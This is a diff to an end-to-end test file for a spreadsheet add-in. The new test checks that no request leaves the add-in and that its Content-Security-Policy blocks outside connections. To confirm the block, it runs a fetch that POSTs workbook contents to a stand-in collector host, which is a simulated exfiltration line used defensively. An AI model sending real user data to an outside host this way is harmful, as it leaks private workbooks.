@@ -12,9 +12,10 @@ import { openPane, results } from './pane-browser';
 
 let browser: Browser;
 let page: Page;
+let outside: string[];
 
 beforeAll(async () => {
-  ({ browser, page } = await openPane(await readXlsx(SAMPLE)));
+  ({ browser, page, outside } = await openPane(await readXlsx(SAMPLE)));
 }, 120000);
 
 afterAll(async () => {
@@ -85,3 +86,33 @@ test('the ribbon button Periksa (ExecuteFunction) opens the pane on fresh result
   await page.waitForFunction(() => (window as unknown as { __completed: boolean }).__completed === true);
   await page.getByText(/6 tabel dikenali/).waitFor({ timeout: 30000 });
 }, 60000);
+
+test('nothing leaves the add-in: no request to another origin while checking, filling and reporting, and the CSP forbids one', async () => {
+  await page.reload();
+  outside.length = 0;
+  await page.getByRole('button', { name: 'Periksa workbook' }).click();
+  await page.getByText(/tabel dikenali/).waitFor({ timeout: 30000 });
+  await page.getByRole('button', { name: 'Laporan' }).click();
+  await page.getByText('Laporan ditulis').waitFor();
+  await page.getByRole('button', { name: 'Isi kolom terhitung' }).click();
+  await page.getByText(/sel akan diisi rumus/).waitFor();
+  await page.getByRole('button', { name: 'Terapkan' }).click();
+  await page.getByText(/sel diisi rumus/).waitFor();
+  expect(outside).toEqual([]);
+  // The page's own Content-Security-Policy refuses a request to elsewhere (a script injected into
+  // the pane could not send the workbook out either).
+  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  expect(csp).toMatch(/connect-src 'self'/);
+  const refused = await page.evaluate(async () => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    const fetched = await fetch('https://pengumpul-data.example/kirim', { method: 'POST', body: 'isi workbook' }).then(
+      () => 'terkirim',
+      () => 'ditolak',
+    );
+    await new Promise((r) => setTimeout(r, 100));
+    return { fetched, violations };
+  });
+  expect(refused).toEqual({ fetched: 'ditolak', violations: ['connect-src'] });
+  expect(outside).toEqual([]);
+}, 120000);
